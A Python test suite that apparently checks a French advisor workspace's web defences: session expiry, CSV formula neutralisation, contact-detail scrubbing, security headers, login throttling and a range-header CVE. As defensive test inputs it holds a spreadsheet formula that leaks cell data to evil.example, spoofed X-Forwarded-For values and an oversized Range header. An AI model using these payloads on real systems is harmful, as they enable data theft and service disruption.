"""The advisor workspace's defences over HTTP (issue 11, section 3): sessions that end, clear
4xx pages instead of crashes, neutralised CSV cells, misunderstood messages kept to their
organisation and scrubbed, security headers, the login throttle and lockout, static files."""

import csv
import io
import re
import statistics
import time
from datetime import datetime

import httpx
import pytest
from loopback import serve
from sqlalchemy import create_engine, func, select, text
from starlette.testclient import TestClient
from test_web import PASSWORD, app, csrf, repo, web_settings  # noqa: F401 - shared fixtures

from bot.leads.models import Erasure, Feedback, Lead, MisunderstoodMessage
from bot.leads.repository import confirmation_key
from bot.settings import Settings
from bot.workspace.advisors import Advisors
from bot.workspace.web.app import create_app

YEAR = datetime.now().year


def client_of(app, **kwargs):
    """A test client that shows a server error as a 500 instead of raising it."""
    return TestClient(app, raise_server_exceptions=False, **kwargs)


def signed_in(app, email, **kwargs):
    client = client_of(app, **kwargs)
    token = csrf(client, "/conseil/connexion")
    response = client.post(
        "/conseil/connexion",
        data={"email": email, "password": PASSWORD, "csrf": token},
        follow_redirects=False,
    )
    assert response.status_code == 303
    return client


def shows_login(response):
    return response.status_code == 303 and response.headers["location"].endswith(
        "/conseil/connexion"
    )


# -- sessions ---------------------------------------------------------------------------------


def test_a_cookie_replayed_after_logout_opens_nothing(app):
    claire = signed_in(app, "claire@sem.example")
    stolen = claire.cookies["boussole_session"]
    claire.post("/conseil/deconnexion", data={"csrf": csrf(claire, "/conseil/")})
    replay = client_of(app, cookies={"boussole_session": stolen})
    for path in ("/conseil/", "/conseil/export.csv", f"/conseil/demandes/ESS-{YEAR}-0001"):
        assert shows_login(replay.get(path, follow_redirects=False)), path


def test_logout_ends_the_advisors_other_sessions_too(app):
    office, phone = signed_in(app, "claire@sem.example"), signed_in(app, "claire@sem.example")
    assert phone.get("/conseil/").status_code == 200
    office.post("/conseil/deconnexion", data={"csrf": csrf(office, "/conseil/")})
    assert shows_login(phone.get("/conseil/", follow_redirects=False))
    again = signed_in(app, "claire@sem.example")  # logging in again still works
    assert again.get("/conseil/").status_code == 200


def test_a_password_reset_or_disabling_ends_every_session(app, repo):
    advisors = Advisors(repo)
    claire = signed_in(app, "claire@sem.example")
    advisors.reset_password("claire@sem.example", PASSWORD)
    assert shows_login(claire.get("/conseil/export.csv", follow_redirects=False))
    claire = signed_in(app, "claire@sem.example")
    advisors.disable("claire@sem.example")
    assert shows_login(claire.get("/conseil/", follow_redirects=False))


# -- odd parameters: clear 4xx pages, never a 500 ---------------------------------------------


@pytest.mark.parametrize("token", ["jéton", "\u202e", "🙂" * 10])
def test_a_non_ascii_csrf_token_is_refused_with_a_french_page(app, token):
    anonymous = client_of(app)
    anonymous.get("/conseil/connexion")
    refused = anonymous.post(
        "/conseil/connexion",
        data={"email": "claire@sem.example", "password": PASSWORD, "csrf": token},
    )
    assert refused.status_code == 403 and "Jeton de sécurité invalide" in refused.text
    claire = signed_in(app, "claire@sem.example")
    refused = claire.post(
        f"/conseil/demandes/ESS-{YEAR}-0001/note", data={"note": "x", "csrf": token}
    )
    assert refused.status_code == 403 and "Jeton de sécurité invalide" in refused.text


@pytest.mark.parametrize(
    "query, words",
    [
        ("page=99999999999999999999", "page"),
        ("page=-3", "page"),
        ("until=9999-12-31", "date"),
        ("since=0001-01-01", "date"),
        ("since=31/12/2026", "date"),
    ],
)
def test_odd_inbox_and_export_parameters_get_a_clear_400(app, query, words):
    admin = signed_in(app, "admin@sem.example")
    for path in ("/conseil/", "/conseil/export.csv"):
        response = admin.get(f"{path}?{query}")
        assert response.status_code == 400, (path, response.status_code)
        assert words in response.text and "text/html" in response.headers["content-type"]


def test_a_page_past_the_last_shows_the_last_one(app):
    admin = signed_in(app, "admin@sem.example")
    page = admin.get("/conseil/?page=40")
    assert page.status_code == 200 and "page 1 sur 1" in page.text
    assert len(set(re.findall(r"ESS-\d{4}-\d{4}", page.text))) == 3


@pytest.mark.parametrize("value", ["9" * 40, "²", "-1", "1e3"])
def test_an_odd_advisor_on_assignment_gets_a_clear_400(app, repo, value):
    claire = signed_in(app, "claire@sem.example")
    ref = f"ESS-{YEAR}-0001"
    response = claire.post(
        f"/conseil/demandes/{ref}/attribution",
        data={"advisor": value, "csrf": csrf(claire, f"/conseil/demandes/{ref}")},
    )
    assert response.status_code == 400 and "organisation" in response.text
    assert repo.get(ref).advisor_id is None


def test_labelling_a_message_that_does_not_exist_gets_a_clear_404(app):
    admin = signed_in(app, "admin@sem.example")
    token = csrf(admin, "/conseil/incompris")
    for message_id in ("99999999999999999999", "12345"):
        response = admin.post(
            f"/conseil/incompris/{message_id}", data={"csrf": token, "action": "dismiss"}
        )
        assert response.status_code == 404 and "Message introuvable" in response.text


def test_an_unexpected_error_still_gets_a_french_page_with_the_headers(app, repo, monkeypatch):
    claire = signed_in(app, "claire@sem.example")

    def broken(reference):
        raise RuntimeError("database gone")

    monkeypatch.setattr(repo, "notes", broken)
    response = claire.get(f"/conseil/demandes/ESS-{YEAR}-0001")
    assert response.status_code == 500 and "Une erreur est survenue" in response.text
    assert "database gone" not in response.text
    assert response.headers["x-frame-options"] == "DENY"


# -- CSV export --------------------------------------------------------------------------------


def test_every_csv_cell_is_neutralised_even_the_transcript(app, repo):
    evil = '=HYPERLINK("http://evil.example/?leak="&A2;"clic")'
    repo.save(
        {
            "confirmation_key": confirmation_key(evil, "m"),
            "conversation_id": evil,
            "first_name": "@Léa",
            "last_name": "+Dupont",
            "offer_id": "competences",
            "consent_version": "v1",
        }
    )
    admin = signed_in(app, "admin@sem.example")
    export = admin.get("/conseil/export.csv?q=Dupont")
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig")), delimiter=";"))
    header, row = rows[0], rows[1]
    assert header[-1] == "transcript" and len(rows) == 2
    cells = dict(zip(header, row, strict=False))
    assert cells["transcript"] == "'" + evil and cells["conversation_id"] == "'" + evil
    assert cells["first_name"] == "'@Léa" and cells["last_name"] == "'+Dupont"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


# -- misunderstood messages --------------------------------------------------------------------


@pytest.mark.parametrize(
    "said, kept",
    [
        ("mon numero perso 06 12 34 56 78 merci", "mon numero perso [téléphone] merci"),
        ("appelez le 0612345678", "appelez le [téléphone]"),
        ("tel: 06.12.34.56.78 ou 04-77-12-34-56", "tel: [téléphone] ou [téléphone]"),
        ("+33 6 12 34 56 78", "[téléphone]"),
        ("+33 (0)6 12 34 56 78 le soir", "[téléphone] le soir"),
        ("0033 6 12 34 56 78", "[téléphone]"),
        ("à Londres +44 20 7946 0958", "à Londres [téléphone]"),
        ("écrivez à Lea.Martin+ess@exemple.co.fr svp", "écrivez à [e-mail] svp"),
        ("lea@asso-firminy.org / 06 12 34 56 78", "[e-mail] / [téléphone]"),
    ],
)
def test_scrub_replaces_e_mails_and_phone_numbers(said, kept):
    from bot.workspace.scrub import scrub

    assert scrub(said) == kept


@pytest.mark.parametrize(
    "said",
    [
        "on est 12 salariés depuis 2019 à Firminy 42700",
        "un budget de 150 000 euros en 2026",
        "SIRET 123 456 789",
        "jveu ouvrir 1 2eme boutik a firminy",
    ],
)
def test_scrub_keeps_ordinary_numbers(said):
    from bot.workspace.scrub import scrub

    assert scrub(said) == said


def test_misunderstood_messages_are_stored_without_contact_details(repo):
    repo.record_misunderstood(
        "c1", "mon numero perso 06 12 34 56 78, mail lea@example.org", [], organisation_id="sem-ess"
    )
    with repo.sessions() as session:
        stored = session.scalar(select(MisunderstoodMessage.text))
    assert stored == "mon numero perso [téléphone], mail [e-mail]"


def test_an_organisation_reads_and_labels_only_its_misunderstood_messages(app, repo):
    repo.record_misunderstood("c1", "message pour la SEM", [], organisation_id="sem-ess")
    repo.record_misunderstood("c2", "message pour Unis-Cité", [], organisation_id="unis-cite")
    repo.record_misunderstood("c9", "message avant toute orientation", [])
    claire, yann = signed_in(app, "claire@sem.example"), signed_in(app, "yann@unis-cite.example")
    admin = signed_in(app, "admin@sem.example")
    page = claire.get("/conseil/incompris").text
    assert "message pour la SEM" in page and "Unis-Cité" not in page
    assert "avant toute orientation" not in page
    page = yann.get("/conseil/incompris").text
    assert "message pour Unis-Cité" in page and "SEM" not in page
    page = admin.get("/conseil/incompris").text
    assert all(t in page for t in ("la SEM", "pour Unis-Cité", "avant toute orientation"))

    with repo.sessions() as session:
        ids = dict(
            session.execute(
                select(MisunderstoodMessage.conversation_id, MisunderstoodMessage.id)
            ).all()
        )
    token = csrf(claire, "/conseil/incompris")
    stolen = claire.post(
        f"/conseil/incompris/{ids['c2']}",
        data={"csrf": token, "action": "label", "intent": "situation_duplication"},
    )
    assert stolen.status_code == 404
    own = claire.post(
        f"/conseil/incompris/{ids['c1']}",
        data={"csrf": token, "action": "label", "intent": "situation_duplication"},
    )
    assert own.status_code == 200
    yann.post(
        f"/conseil/incompris/{ids['c2']}",
        data={
            "csrf": csrf(yann, "/conseil/incompris"),
            "action": "label",
            "intent": "situation_reve_et_realise",
        },
    )
    assert "Unis-Cité" not in claire.get("/conseil/incompris/export.yml").text
    assert "Unis-Cité" in admin.get("/conseil/incompris/export.yml").text


def test_the_fallback_action_keeps_the_organisation_of_the_offer(repo, monkeypatch, catalogue):
    import bot.leads.service
    from actions.orientation import _keep_for_review

    monkeypatch.setattr(bot.leads.service, "get_repository", lambda: repo)

    class Tracker:
        sender_id = "c5"
        latest_message = {
            "text": "joignable au 06 12 34 56 78",
            "intent_ranking": [{"name": "nlu_fallback", "confidence": 0.3}],
        }

        def __init__(self, offer):
            self.slots = {"offer": offer}

        def get_slot(self, name):
            return self.slots.get(name)

    _keep_for_review(Tracker("reve-et-realise"))
    _keep_for_review(Tracker(None))
    _keep_for_review(Tracker("une-offre-retiree"))
    with repo.sessions() as session:
        kept = session.execute(
            select(MisunderstoodMessage.organisation_id, MisunderstoodMessage.text).order_by(
                MisunderstoodMessage.id
            )
        ).all()
    assert [o for o, _ in kept] == [catalogue.offers["reve-et-realise"].organisation, None, None]
    assert kept[0][1] == "joignable au [téléphone]"


def test_erasing_a_lead_erases_the_rest_of_its_conversation(app, repo, tmp_path):
    tracker = create_engine(f"sqlite:///{tmp_path / 't.db'}", future=True)
    with tracker.begin() as c:
        c.execute(
            text(
                "CREATE TABLE events (id INTEGER PRIMARY KEY, sender_id TEXT, "
                "type_name TEXT, timestamp FLOAT, intent_name TEXT, "
                "action_name TEXT, data TEXT)"
            )
        )
        c.execute(
            text(
                "INSERT INTO events (sender_id, type_name, timestamp, data) VALUES "
                "('c2', 'user', 1, '{\"text\": \"mon projet\"}'), "
                "('c2', 'bot', 2, '{\"text\": \"Rêve et Réalise\"}'), "
                "('c1', 'user', 3, '{\"text\": \"autre personne\"}')"
            )
        )
    repo.record_misunderstood("c2", "un message pas compris", [], organisation_id="unis-cite")
    repo.record_misunderstood("c1", "un autre", [], organisation_id="sem-ess")
    repo.record_feedback("c2", True, "reve-et-realise", "merci")
    admin = signed_in(app, "admin@sem.example")
    ref = f"ESS-{YEAR}-0002"
    admin.post(
        f"/conseil/demandes/{ref}/note",
        data={"note": "appelée", "csrf": csrf(admin, f"/conseil/demandes/{ref}")},
    )
    erased = admin.post(
        f"/conseil/demandes/{ref}/effacer",
        data={"csrf": csrf(admin, f"/conseil/demandes/{ref}"), "confirm": "oui"},
    )
    assert erased.status_code == 200 and "La demande a été effacée" in erased.text
    assert "un message pas compris" not in admin.get("/conseil/incompris").text
    with repo.sessions() as session:
        assert (
            session.scalar(
                select(func.count())
                .select_from(MisunderstoodMessage)
                .where(MisunderstoodMessage.conversation_id == "c2")
            )
            == 0
        )
        assert session.scalar(select(func.count()).select_from(Feedback)) == 0
        assert session.scalar(select(func.count()).select_from(MisunderstoodMessage)) == 1
        assert session.scalar(select(func.count()).select_from(Lead)) == 2
        log = session.scalars(select(Erasure)).all()
    with tracker.connect() as c:
        assert c.execute(text("SELECT sender_id FROM events")).scalars().all() == ["c1"]
    assert [(e.requested_by, e.channel, e.leads, e.tracker_events) for e in log] == [
        ("advisor", "rest", 1, 2)
    ]
    # The lead, its history row, its note, the misunderstood message, the feedback.
    assert log[0].rows == 5


# -- response headers -------------------------------------------------------------------------


def test_every_response_carries_the_security_headers(app):
    client = client_of(app)
    claire = signed_in(app, "claire@sem.example")
    responses = [
        client.get(p)
        for p in ("/", "/widget.js", "/offres", "/conseil/connexion", "/offres/inconnue", "/sante")
    ]
    responses += [
        client.post("/chat", content=b"{"),
        claire.get("/conseil/"),
        claire.get("/conseil/export.csv"),
    ]
    for response in responses:
        headers = response.headers
        policy = headers["content-security-policy"]
        assert "default-src 'none'" in policy and "frame-ancestors 'none'" in policy
        assert "script-src 'self'" in policy and "unsafe-inline" not in policy
        assert headers["x-frame-options"] == "DENY"
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "same-origin"


def test_pages_need_no_inline_style_or_script(app):
    """What the policy forbids is absent: every style and script comes from a file."""
    claire = signed_in(app, "claire@sem.example")
    pages = [
        claire.get(p).text
        for p in (
            "/conseil/",
            f"/conseil/demandes/ESS-{YEAR}-0001",
            "/conseil/incompris",
            "/conseil/chiffres",
        )
    ]
    pages += [
        client_of(app).get(p).text
        for p in ("/", "/offres", "/offres/competences", "/conseil/connexion")
    ]
    for html in pages:
        assert "<style" not in html and " style=" not in html
        assert not re.search(r"<script(?![^>]*\bsrc=)", html)
        assert not re.search(r"\son[a-z]+=", html)
    for sheet in ("/static/conseil.css", "/static/public.css"):
        response = client_of(app).get(sheet)
        assert response.status_code == 200 and "text/css" in response.headers["content-type"]
    assert client_of(app).get("/static/../app.py").status_code == 404


# -- login ------------------------------------------------------------------------------------


def wrong_logins(base_url, count, forwarded):
    with httpx.Client(base_url=base_url) as client:
        token = re.search(
            r'name="csrf" value="([^"]+)"', client.get("/conseil/connexion").text
        ).group(1)
        return [
            client.post(
                "/conseil/connexion",
                data={"email": f"x{i}@example.org", "password": "nope", "csrf": token},
                headers={"X-Forwarded-For": forwarded(i)} if forwarded else {},
            ).status_code
            for i in range(count)
        ]


def test_a_rotated_x_forwarded_for_does_not_escape_the_throttle(app):
    """Served by uvicorn on loopback, as in production (no trusted proxy by default): the
    header alone buys nothing."""
    with serve(app) as url:
        codes = wrong_logins(url, 21, lambda i: f"203.0.113.{i}")
    assert codes[:20] == [401] * 20 and codes[20] == 429


def test_x_forwarded_for_counts_behind_a_configured_proxy(repo, tmp_path):
    app = create_app(
        web_settings(tmp_path, trusted_proxies="10.0.0.0/24, 127.0.0.1"), repository=repo
    )
    with serve(app) as url:
        # nginx on loopback, one person behind it each time: each has their own budget.
        assert wrong_logins(url, 21, lambda i: f"203.0.113.{i}") == [401] * 21
        # One person: throttled, whatever they add in front of the proxy's own entry.
        codes = wrong_logins(url, 21, lambda i: f"198.51.100.{i}, 192.0.2.7")
    assert codes[:20] == [401] * 20 and codes[20] == 429


def test_x_forwarded_for_is_ignored_from_an_address_not_configured(repo, tmp_path):
    client = TestClient(
        create_app(web_settings(tmp_path, trusted_proxies="10.0.0.1"), repository=repo),
        client=("192.0.2.50", 4444),
    )
    token = csrf(client, "/conseil/connexion")
    codes = [
        client.post(
            "/conseil/connexion",
            data={"email": f"x{i}@example.org", "password": "nope", "csrf": token},
            headers={"X-Forwarded-For": f"203.0.113.{i}"},
        ).status_code
        for i in range(21)
    ]
    assert codes[20] == 429


def test_a_mistyped_trusted_proxy_stops_the_start_with_a_clear_message(repo, tmp_path):
    with pytest.raises(ValueError, match="« nginx.local » n'est ni une adresse"):
        create_app(
            web_settings(tmp_path, trusted_proxies="127.0.0.1, nginx.local"), repository=repo
        )


def test_without_a_configured_key_sessions_are_signed_with_one_kept_in_var(repo, tmp_path):
    """The key survives a restart (the same file in the settings' var/), readable by us only."""
    settings = web_settings(tmp_path, secret_key=None)
    first = TestClient(create_app(settings, repository=repo))
    token = csrf(first, "/conseil/connexion")
    key = settings.var_dir / "secret_key"
    assert key.stat().st_mode & 0o777 == 0o600 and len(key.read_text().strip()) >= 48
    restarted = TestClient(create_app(settings, repository=repo), cookies=first.cookies)
    assert csrf(restarted, "/conseil/connexion") == token
    other = TestClient(
        create_app(web_settings(tmp_path / "other", secret_key=None), repository=repo),
        cookies=first.cookies,
    )
    assert csrf(other, "/conseil/connexion") != token


def test_a_locked_account_answers_as_slowly_as_the_others(app, repo):
    advisors = Advisors(repo)
    for _ in range(10):
        advisors.authenticate("claire@sem.example", "wrong password!")

    def seconds(email, password):
        runs = []
        for _ in range(5):
            start = time.perf_counter()
            assert advisors.authenticate(email, password) is None
            runs.append(time.perf_counter() - start)
        return statistics.median(runs)

    locked = seconds("claire@sem.example", PASSWORD)
    unknown = seconds("personne@sem.example", PASSWORD)
    assert locked > 0.6 * unknown, (locked, unknown)


def test_a_disabled_advisor_cannot_be_assigned(app, repo):
    advisors = Advisors(repo)
    paul = advisors.add("paul@sem.example", "Paul", "sem-ess", "conseiller", PASSWORD)
    advisors.disable("paul@sem.example")
    claire = signed_in(app, "claire@sem.example")
    ref = f"ESS-{YEAR}-0001"
    response = claire.post(
        f"/conseil/demandes/{ref}/attribution",
        data={"advisor": str(paul.id), "csrf": csrf(claire, f"/conseil/demandes/{ref}")},
    )
    assert response.status_code == 400 and "désactivé" in response.text
    assert repo.get(ref).advisor_id is None


# -- static files -----------------------------------------------------------------------------


def test_a_many_range_header_on_the_widget_costs_nothing(app):
    """CVE-2025-62727: ranges were parsed in quadratic time; the widget ignores ranges."""
    ranges = ",".join(f"{i}-{i}" for i in range(0, 4000, 2)) + "," + "1" * 20000
    client = client_of(app)
    whole = client.get("/widget.js")
    start = time.perf_counter()
    response = client.get("/widget.js", headers={"Range": f"bytes={ranges}"})
    assert time.perf_counter() - start < 1.0
    assert response.status_code == 200 and response.content == whole.content
    assert "multipart" not in response.headers["content-type"]


def test_starlette_is_a_version_with_the_range_fix():
    from importlib.metadata import version
    from pathlib import Path

    installed = tuple(int(p) for p in version("starlette").split(".")[:3])
    assert installed >= (0, 49, 1)
    lock = (Path(__file__).parent.parent / "requirements.lock").read_text()
    pinned = re.search(r"^starlette==([\d.]+)$", lock, re.M).group(1)
    assert tuple(int(p) for p in pinned.split(".")) >= (0, 49, 1)


def test_the_widget_proxy_tells_rasa_who_is_writing(repo, tmp_path):
    """Rasa's flood guard per address sees the person behind /chat, not the proxy itself."""
    from starlette.applications import Starlette
    from starlette.responses import JSONResponse
    from starlette.routing import Route

    seen = []

    async def webhook(request):
        seen.append(request.headers.get("x-forwarded-for"))
        return JSONResponse([{"text": "Bonjour !"}])

    rasa = Starlette(routes=[Route("/webhooks/rest/webhook", webhook, methods=["POST"])])
    with serve(rasa) as rasa_url:
        client = TestClient(
            create_app(web_settings(tmp_path, rasa_url=rasa_url), repository=repo),
            client=("203.0.113.7", 5555),
        )
        answer = client.post("/chat", json={"sender": "w1", "message": "bonjour"})
    assert answer.status_code == 200 and answer.json()[0]["text"] == "Bonjour !"
    assert seen == ["203.0.113.7"]


def test_session_cookies_are_secure_unless_the_settings_say_plain_http(repo, tmp_path):
    """BOUSSOLE_COOKIE_SECURE=0 (scripts/run.sh on loopback) is the only way to lose `Secure`."""

    def cookie(**environ):
        settings = web_settings(tmp_path, secure_cookies=Settings.from_env(environ).secure_cookies)
        client = TestClient(create_app(settings, repository=repo), base_url="https://testserver")
        return client.get("/conseil/connexion").headers["set-cookie"].lower()

    assert "; secure" in cookie() and "; secure" in cookie(BOUSSOLE_COOKIE_SECURE="1")
    assert "; secure" not in cookie(BOUSSOLE_COOKIE_SECURE="0")
    assert "samesite=strict" in cookie() and "httponly" in cookie()
